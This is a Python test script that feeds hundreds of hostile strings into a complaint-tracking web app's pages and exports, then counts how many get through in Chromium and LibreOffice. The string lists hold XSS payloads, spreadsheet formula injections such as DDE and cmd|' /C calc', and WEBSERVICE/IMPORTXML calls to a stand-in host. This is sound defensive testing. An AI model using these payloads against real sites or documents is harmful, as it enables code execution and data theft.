"""Three hundred hostile strings on every page and in every export, in Chromium and LibreOffice.

    CHROMIUM=PATH .venv/bin/python tests/measure_hostile_texts.py [--strings 300] [--soffice PATH]

Each string is a citizen's post, name, parent and link, an OPD's answer, a note, and the words that
decided. Chromium opens every list, every item and every page that shows them, at 360 px;
LibreOffice opens the exports. `make test` does the same with twenty of the worst.
"""

import itertools
import os
import shutil
import subprocess
import sys
import tempfile
from collections import Counter
from contextlib import ExitStack
from pathlib import Path
from typing import get_args
from urllib.parse import urlencode
from zipfile import ZipFile

sys.path.insert(0, str(Path(__file__).parent))

import click
from playwright.sync_api import Page, sync_playwright
from test_web_browser import HOSTILE, overflow, visit
from web_support import Town, add_sources, put_everywhere, town

from tanggap.store.rows import EVERYTHING, ItemFilter, Tab
from tanggap.web.queue_page import PAGE_SIZE, key_text

ALARM = "document.title='DIRETAS'"
MARKUP = (
    "<script>{0}</script>", "<img src=x onerror={0}>", "<svg onload={0}>", "<body onload={0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'>", "<a href=javascript:{0}>klik</a>",
    "<form action=javascript:{0}><input autofocus onfocus={0}>", "<style>*{{x:{0}}}</style>",
    "<math><mtext></mtext><script>{0}</script></math>", "<details open ontoggle={0}>x",
    "<video><source onerror={0}>", "<object data=javascript:{0}>", "<embed src=javascript:{0}>",
    "<base href=javascript:{0}//>", "<meta http-equiv=refresh content=0;javascript:{0}>",
)  # fmt: skip
FRAMES = ("{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "-->{}", "]]>{}", "</bdi></div>{}")
FORMULAS = (
    "1+1", 'HYPERLINK("https://jahat.example";"klik")', "cmd|' /C calc'!A0", "SUM(A1:A9)",
    'WEBSERVICE("https://jahat.example")', 'IMPORTXML("https://jahat.example";"//a")',
    "DDE(\"cmd\";\"/C calc\")", 'RTD("jahat";"";"x")',
)  # fmt: skip
SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    ";=",
    "\ufeff=",
    "\uff1d",
    '"=',
    "';=",
    "|=",
)
STEERING = [chr(code) for code in (
    0x00, 0x07, 0x08, 0x0B, 0x0C, 0x1B, 0x7F, 0x85, 0x9B, 0xAD, 0x34F, 0x61C, 0x115F, 0x180E,
    0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202B, 0x202D, 0x202E,
    0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0x3164, 0xFE0F, 0xFEFF, 0xFFF9, 0xFFFE, 0xE0001,
)]  # fmt: skip


def strings(how_many: int) -> list[str]:
    """Return so many different hostile strings, a share of each kind first."""
    kinds = [
        iter(HOSTILE),
        (frame.format(tag.format(ALARM)) for tag in MARKUP for frame in FRAMES),
        (sign + formula for formula in FORMULAS for sign in SIGNS),
        (f"lampu {mark * 30}jalan{mark} mati" for mark in STEERING),
        ("e" + chr(0x300 + i) * (1000 * (i + 1)) for i in range(12)),
        (
            unit * 4_000
            for unit in ("W", "漢", "ﷺ", "🏳️‍🌈", "a\u200b", "\u0e49", "نص", "]]", "%s", "\\")
        ),
    ]
    mixed = (text for turn in itertools.zip_longest(*kinds) for text in turn if text is not None)
    return list(itertools.islice(dict.fromkeys(mixed), how_many))


def look(page: Page, address: str, found: Counter[str]) -> None:
    """Open a page and count what is wrong with it."""
    page.goto(address)
    found["pages"] += 1
    found["scripts run"] += "DIRETAS" in page.title()
    found["layouts broken"] += overflow(page) > 0
    strange = "main script, main iframe, main style, main object, main embed, main [onerror]"
    found["markup"] += page.locator(strange).count()
    found["links that run"] += page.locator("[href^='javascript' i]").count()


def pages(made: Town, numbers: list[int]) -> list[str]:
    """Return the addresses of all pages that show a string."""
    paths = [f"/aduan/{number}" for number in numbers] + ["/ekspor", "/sumber", "/analis/label"]
    for tab in get_args(Tab):
        items = list(made.store.export(EVERYTHING, ItemFilter(tab=tab)))
        before = [items[at] for at in range(PAGE_SIZE - 1, len(items), PAGE_SIZE)]
        paths += [f"/antrean?tab={tab}"]
        paths += [f"/antrean?{urlencode({'tab': tab, 'setelah': key_text(one)})}" for one in before]
    return paths


def formula_cells(soffice: str, file: Path) -> int:
    """Return how many cells LibreOffice takes for formulas or links in a file."""
    out = file.parent / "out"
    subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation=file://{file.parent}/profile",
         "--convert-to", "ods", "--outdir", str(out), str(file)],
        check=True, capture_output=True, timeout=600,
    )  # fmt: skip
    with ZipFile(out / f"{file.stem}.ods") as opened:
        content = opened.read("content.xml").decode()
    return content.count("table:formula=") + content.count("xlink:href=")


@click.command()
@click.option("--strings", "how_many", default=300, show_default=True)
@click.option("--soffice", default=shutil.which("soffice") or "", help="LibreOffice.")
def main(how_many: int, soffice: str) -> None:
    """Measure and print a table."""
    texts = strings(how_many)
    found: Counter[str] = Counter()
    with ExitStack() as stack:
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory()))
        made = stack.enter_context(town(folder, x_enabled=True))
        add_sources(made)
        numbers = [put_everywhere(made, at, text).id for at, text in enumerate(texts)]
        playwright = stack.enter_context(sync_playwright())
        browser = playwright.chromium.launch(
            executable_path=os.environ["CHROMIUM"], args=["--no-sandbox"]
        )
        with visit(browser, made, viewport={"width": 360, "height": 740}) as (page, complained):
            for path in pages(made, numbers):
                look(page, made.url + path, found)
            found["complaints of the browser (CSP, errors, requests)"] = len(complained)
        browser.close()
        person = made.person("ketua")
        for form in ("csv", "xlsx", "json"):
            body = person.post("/antrean/ekspor", bentuk=form, daftar="tab=queue").content
            file = folder / f"aduan.{form}"
            file.write_bytes(body)
            if soffice and form != "json":
                found[f"formulas or links in {form}, LibreOffice"] = formula_cells(soffice, file)
        person.close()
    click.echo(f"| {len(texts)} strings | found |\n|---|---|")
    for name, number in found.items():
        click.echo(f"| {name} | {number} |")


if __name__ == "__main__":
    main()
